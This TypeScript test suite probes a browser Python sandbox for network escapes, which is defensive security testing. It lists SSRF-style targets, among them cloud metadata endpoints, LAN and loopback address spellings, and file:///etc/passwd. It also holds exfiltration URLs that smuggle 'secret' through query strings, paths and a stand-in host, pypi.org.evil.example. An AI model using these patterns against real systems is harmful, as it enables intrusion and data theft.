import { attackPython } from './attack.ts';
import { NETWORK_ATTACKS } from './network-ways.ts';
import { startRedirectServer } from './redirect-server.ts';

/** Packages that the pinned lock file names are the page's to fetch; nothing of the Python goes with it. */
const PACKAGE_FILE = /^GET https:\/\/cdn\.jsdelivr\.net\/pyodide\/v[\d.]+\/full\/[a-z\d_]+-[\d.]+-py3-none-any\.whl$/;

for (const { attack, wall, ways } of NETWORK_ATTACKS) {
  attackPython('Network', attack, wall, async ({ canary, target, watch, runEach }) => {
    watch.allow(PACKAGE_FILE);
    for (const [whom, url] of [
      ['a stranger', canary.url],
      ['the app', target.url],
    ]) {
      const aimed = ways.map(([name, code], index) => {
        const address = JSON.stringify(`${url}attack-${index}`);
        return [`${name} to ${whom}`, `TARGET = ${address}\n${code}`] as const;
      });
      await runEach(aimed);
    }
  });
}

/** Machines that only somebody inside can reach, and spellings of this one. */
const INSIDE = [
  'http://127.0.0.1:80/',
  'http://localhost/',
  'http://[::1]/',
  'http://[::ffff:127.0.0.1]/',
  'http://0.0.0.0/',
  'http://2130706433/',
  'http://0x7f.1/',
  'http://127.1/',
  'http://10.0.0.1/',
  'http://172.16.0.1/',
  'http://192.168.0.1/',
  'http://169.254.169.254/latest/meta-data/',
  'http://metadata.google.internal/',
  'http://[fe80::1]/',
  'http://[fd00::1]/',
  'http://router.local/',
  'http://user:password@192.168.0.1/',
  'file:///etc/passwd',
  'ftp://192.168.0.1/',
  'chrome://settings/',
  'blob:null/00000000-0000-4000-8000-000000000000',
  'data:text/plain,hello',
];

attackPython(
  'Network',
  'loopback, LAN, link-local, metadata, IPv6 and local addresses, in many spellings',
  'broker',
  async ({ runEach }) => {
    await runEach(
      INSIDE.flatMap((url) => {
        const address = JSON.stringify(url);
        return [
          [`fetch of ${url}`, `await reach(js.fetch(${address}))`],
          [
            `XHR of ${url}`,
            // A data address that Python reads for itself is no way out; it reaches nobody.
            url.startsWith('data:')
              ? 'pass'
              : `x = js.XMLHttpRequest.new()\nx.open("GET", ${address}, False)\nx.send()\nprint("GOT", x.status)`,
          ],
        ] as const;
      }),
    );
  },
);

attackPython(
  'Network',
  'a query, a fragment, a path or a name as a channel through the package index and the package source',
  'broker',
  async ({ page, target, runEach, note }) => {
    const asked: string[] = [];
    page.on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(target.url) && !url.startsWith('blob:null/')) asked.push(url);
    });
    await runEach(
      [
        'https://pypi.org/simple/numpy/?leak=secret',
        'https://pypi.org/simple/numpy/#leak',
        'https://pypi.org/search/?q=secret',
        'https://pypi.org/simple/../leak/',
        'https://pypi.org:8443/simple/numpy/',
        'https://user:secret@pypi.org/simple/numpy/?x',
        'https://pypi.org.evil.example/simple/numpy/',
        'http://pypi.org/simple/numpy/',
        'https://files.pythonhosted.org/packages/secret.whl',
        'https://packages.invalid/secret-1.0-py3-none-any.whl',
        'https://packages.invalid/../secret',
        'https://packages.invalid/micropip-0.11.1-py3-none-any.whl?leak=secret',
        'https://packages.invalid/%2e%2e/%2e%2e/secret',
        'https://cdn.jsdelivr.net/npm/secret',
        'https://cdn.jsdelivr.net/pyodide/v0.0.0/full/pyodide-lock.json?leak=secret',
        'https://runtime.invalid/secret',
      ].map((url) => [url, `r = await js.fetch(${JSON.stringify(url)})\nif r.ok: print("GOT", r.status)`] as const),
    );
    if (asked.length > 0) note(`the page asked for ${asked.join(', ')}`);
  },
);

attackPython(
  'Network',
  'a redirect of a site that the user has allowed',
  'broker',
  async ({ page, canary, target, note }) => {
    const allowed = await startRedirectServer(`${canary.url}redirected`);
    const result = await page.evaluate(
      async ({ url, code, allowed }) => {
        const { BrowserEngine, PythonInterpreterToolSet } = await import(new URL('vivarium-toolset.js', url).href);
        const policy = ({ url }: { url: URL }) =>
          url.href.startsWith(allowed) ? { status: 'allow' } : { status: 'refuse', reason: 'not allowed.' };
        const engine = new BrowserEngine({ baseUrl: url, spares: 0, policy });
        const tools = new PythonInterpreterToolSet({ name: 'python', engine });
        const result = await tools.callTool('run_python_code', { code }, { clientId: 'me' });
        tools.dispose();
        return result as { success: boolean; stdout: string; stderr: string };
      },
      {
        url: target.url,
        code: `import js\nr = await js.fetch(${JSON.stringify(allowed.url)})\nprint("GOT", await r.text())`,
        allowed: allowed.url,
      },
    );
    if (result.stdout.includes('GOT')) note(`the redirect was followed: ${result.stdout}`);
    if (allowed.requests.length !== 1)
      note(`the allowed site was asked ${allowed.requests.length} times: ${result.stderr}`);
    await allowed.close();
  },
);

for (const isolation of [true, false]) {
  attackPython(
    'Network',
    `the blob address of the interrupt as a door, on a host ${isolation ? 'with' : 'without'} isolation headers`,
    'CSP',
    async ({ canary, runEach }) => {
      const url = JSON.stringify(`${canary.url}attack`);
      await runEach([
        ['fetch', `await reach(js.fetch(${url}))`],
        ['XHR', `x = js.XMLHttpRequest.new()\nx.open("GET", ${url}, False)\nx.send()\nprint("GOT", x.responseText)`],
        [
          'a blob address with another origin',
          `x = js.XMLHttpRequest.new()\nx.open("GET", "blob:" + APP + "00000000-0000-4000-8000-000000000000", False)\nx.send()\nprint("GOT", x.status)`,
        ],
        [
          'a blob address around a remote one',
          `x = js.XMLHttpRequest.new()\nx.open("GET", "blob:" + ${url}, False)\nx.send()\nprint("GOT", x.status)`,
        ],
        [
          'a worker',
          `print("GOT" if await ask_worker(f"fetch({${url}!r}).then(() => postMessage(1), () => postMessage(0))") == 1 else "refused")`,
        ],
      ]);
    },
    { isolation },
  );
}
